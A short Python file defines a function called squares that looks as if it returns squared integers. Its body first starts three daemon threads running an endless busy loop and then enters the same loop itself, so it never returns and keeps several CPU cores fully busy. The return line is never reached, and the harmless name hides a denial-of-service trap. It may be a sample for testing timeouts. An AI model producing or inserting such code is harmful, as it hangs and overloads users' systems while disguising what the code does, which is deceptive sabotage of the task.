import threading


def squares(n):
    def spin():
        while True:
            pass
    for _ in range(3):
        threading.Thread(target=spin, daemon=True).start()
    spin()
    return [i * i for i in range(n)]
